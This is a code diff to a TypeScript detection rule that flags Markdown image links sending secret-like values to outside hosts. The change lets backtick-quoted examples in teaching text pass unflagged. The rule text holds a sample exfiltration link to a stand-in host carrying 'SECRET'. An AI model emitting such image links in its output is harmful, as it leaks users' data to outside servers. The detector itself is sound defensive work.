@@ -1,4 +1,5 @@
 import { isOutside } from '../chains.js'
+import { isLesson } from '../conclusions/lesson.js'
 import type { Evidence } from '../evidence.js'
 import { readAddress } from '../facts/address.js'
 import type { Observation, Rule } from '../rule.js'
@@ -25,7 +26,7 @@ export const rule: Rule = {
       'Image Markdown such as `![x](https://drop.example.net/p?d=SECRET)` leaks when a client renders it.\n',
     ],
   },
-  find: ({ passages }: Evidence) => passages.flatMap(({ segment }) => judge(segment)),
+  find: (evidence: Evidence) => evidence.passages.flatMap(({ segment }) => judge(segment, isLesson(evidence))),
 }
 
 const IMAGE = /!\[[^\]\n]{0,200}\]\((https?:\/\/[^)\n]{4,400})\)/g
@@ -35,14 +36,14 @@ const NAMED = /[?&]\w{1,20}=(?:[A-Z][A-Z_]{3,30}|\$\w{2,30}|\[[^\]\n]{2,40}\])(?
 /** Part of a path in a repository. */
 const TEMPLATE = /^[^?]{0,300}\{(?:owner|org|repo|user|username|branch|path|file|filename|name|version|project)\}/i
 
-function judge(segment: Evidence['segments'][number]): readonly Observation[] {
+function judge(segment: Evidence['segments'][number], isTaught: boolean): readonly Observation[] {
   const found: Observation[] = []
   for (const { index, 1: url = '' } of segment.text.matchAll(IMAGE)) {
     const address = readAddress(url)
     const isFilled = FILLED.test(url) || NAMED.test(url)
     const isTemplate = address?.kind === 'code' && TEMPLATE.test(url)
     if (!isFilled || isTemplate || !isOutside(address) || address?.host === 'img.shields.io') continue
-    if (isMention(segment.text, index)) continue
+    if (isMention(segment.text, index) || (isTaught && segment.text.charAt(index - 1) === '`')) continue
     found.push({
       segment,
       at: index,
